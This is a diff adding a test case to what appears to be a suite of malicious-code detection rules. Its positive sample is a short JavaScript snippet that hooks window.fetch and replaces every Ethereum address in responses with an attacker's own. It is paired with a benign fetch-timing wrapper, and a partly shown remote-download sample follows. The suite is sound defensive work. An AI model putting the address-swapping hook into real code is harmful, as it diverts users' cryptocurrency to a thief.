@@ -435,6 +435,18 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "    return text if ADDRESS.match(text) else None\n",
     ),
     (
+        clipboard_hijack_rule,
+        "drain.js",
+        "const swap = (t) => t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, MINE);\n"
+        "const _fetch = window.fetch;\n"
+        "window.fetch = (...a) => _fetch(...a).then((r) => r.text()).then((t) => new Response(swap(t)));\n",
+        # a monitoring agent that wraps fetch, and a dapp helper that validates addresses
+        "const _fetch = window.fetch;\n"
+        "window.fetch = (...a) => { const t0 = Date.now(); return _fetch(...a).finally(() => report(t0)); };\n"
+        "export const isAddress = (s) => /^0x[a-fA-F0-9]{40}$/.test(s);\n"
+        "if (window.fetch === undefined) polyfill();\n",
+    ),
+    (
         executes_code_at_remote_url_rule,
         "fetch.py",
         "import os, requests, tempfile\ns = requests.Session()\nr = s.get(URL, stream=True)\n"
